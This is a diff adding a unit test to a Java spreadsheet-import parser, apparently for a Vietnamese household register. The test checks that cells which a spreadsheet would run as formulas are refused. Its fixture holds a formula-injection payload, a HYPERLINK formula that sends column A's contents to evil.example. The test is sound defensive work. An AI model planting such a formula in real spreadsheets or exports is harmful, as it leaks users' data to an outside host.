@@ -176,6 +176,22 @@ class PersonImportParserTest {
     }
 
     @Test
+    void aNameOrAddressThatASpreadsheetWouldRunAsAFormulaIsRefusedAtItsCell() {
+        byte[] file = ImportFiles.withTemplateHeaders()
+                .row(person(1, "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")", "1960", "Nam", "Thái", null, "H01",
+                        "Chủ hộ"))
+                .row(with(person(2, "Lò Thị Hoa", "1962", "Nữ", "Thái", null, "H02", "Chủ hộ"), ImportColumn.ADDRESS,
+                        "+84 Bản Co Sản"))
+                .bytes();
+
+        ImportReport report = parse("danh-sach.xlsx", file);
+
+        assertThat(report.problems()).extracting(ImportProblem::rowNumber, ImportProblem::messageKey)
+                .contains(tuple(2, "text.error.formula"), tuple(3, "text.error.formula"));
+        assertThat(report.rowsToImport()).isEmpty();
+    }
+
+    @Test
     void aHouseholdWithTwoHeadsIsRefusedOnBothHeadRows() {
         ImportReport report = parse("x.xlsx", ImportFiles.withTemplateHeaders()
                 .row(person(1, "Lò Văn Thành", "1948", "Nam", "Thái", null, "H01", "Chủ hộ"))
